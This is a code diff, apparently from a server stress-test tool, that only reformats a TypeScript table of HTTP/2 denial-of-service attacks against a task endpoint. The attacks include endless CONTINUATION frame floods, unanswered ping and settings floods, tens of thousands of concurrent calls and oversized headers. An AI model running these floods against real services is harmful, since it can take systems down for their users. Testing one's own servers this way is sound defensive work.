@@ -84,7 +84,12 @@ export const ATTACKS: Record<string, (target: Target) => Promise<void>> = {
     }
   },
   "headers that never end": ({ url }) => {
-    const more = frame(TYPE.continuation, 0, 1, Buffer.concat([Buffer.from([0, 1, 97, 100]), Buffer.alloc(100, 98)]));
+    const more = frame(
+      TYPE.continuation,
+      0,
+      1,
+      Buffer.concat([Buffer.from([0, 1, 97, 100]), Buffer.alloc(100, 98)]),
+    );
     return flood(url, [frame(TYPE.headers, 0, 1, postTo(RUN_TASK)), Buffer.alloc(more.length * 1000, more)]);
   },
   "pings and settings whose answers are not read": async ({ url }) => {
@@ -95,12 +100,16 @@ export const ATTACKS: Record<string, (target: Target) => Promise<void>> = {
   },
   "19,000 small calls on 190 connections": async (target) => {
     await sessionsOf(target, 190, async (session) => {
-      const calls = Array.from({ length: 100 }, () => ended(post(session, target, RUN_TASK, "application/json", "{}")));
+      const calls = Array.from({ length: 100 }, () =>
+        ended(post(session, target, RUN_TASK, "application/json", "{}")),
+      );
       await Promise.all(calls);
     });
   },
   "20,000 calls with headers of 12 KB": async (target) => {
-    const headers = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`x-${i}`, `${i}`.repeat(1000).slice(0, 1000)]));
+    const headers = Object.fromEntries(
+      Array.from({ length: 12 }, (_, i) => [`x-${i}`, `${i}`.repeat(1000).slice(0, 1000)]),
+    );
     await sessionsOf(target, 20, async (session) => {
       for (let i = 0; i < 10; i++) {
         const calls = Array.from({ length: 100 }, () =>
@@ -135,9 +144,15 @@ function lengths(content: Buffer, ...numbers: number[]): Buffer {
 
 const authorization = ({ token }: Target) => ({ ...(token && { authorization: `Bearer ${token}` }) });
 
-async function sendAll(target: Target, count: number, headers: Record<string, string>, body: string | Buffer) {
+async function sendAll(
+  target: Target,
+  count: number,
+  headers: Record<string, string>,
+  body: string | Buffer,
+) {
   const all = { ...headers, ...authorization(target) };
-  const send = () => fetch(target.url + RUN_TASK, { method: "POST", headers: all, body }).then((answer) => answer.text());
+  const send = () =>
+    fetch(target.url + RUN_TASK, { method: "POST", headers: all, body }).then((answer) => answer.text());
   await Promise.allSettled(Array.from({ length: count }, send));
 }
 
@@ -236,7 +251,8 @@ async function flood(url: string, pieces: Buffer[]): Promise<void> {
   peer.socket.pause();
   for (const piece of pieces) await peer.write(piece);
   const last = pieces.at(-1) ?? Buffer.alloc(0);
-  for (let sent = 0; !peer.socket.destroyed && sent < 64 * 2 ** 20; sent += last.length) await peer.write(last);
+  for (let sent = 0; !peer.socket.destroyed && sent < 64 * 2 ** 20; sent += last.length)
+    await peer.write(last);
 }
 
 if (import.meta.main) {
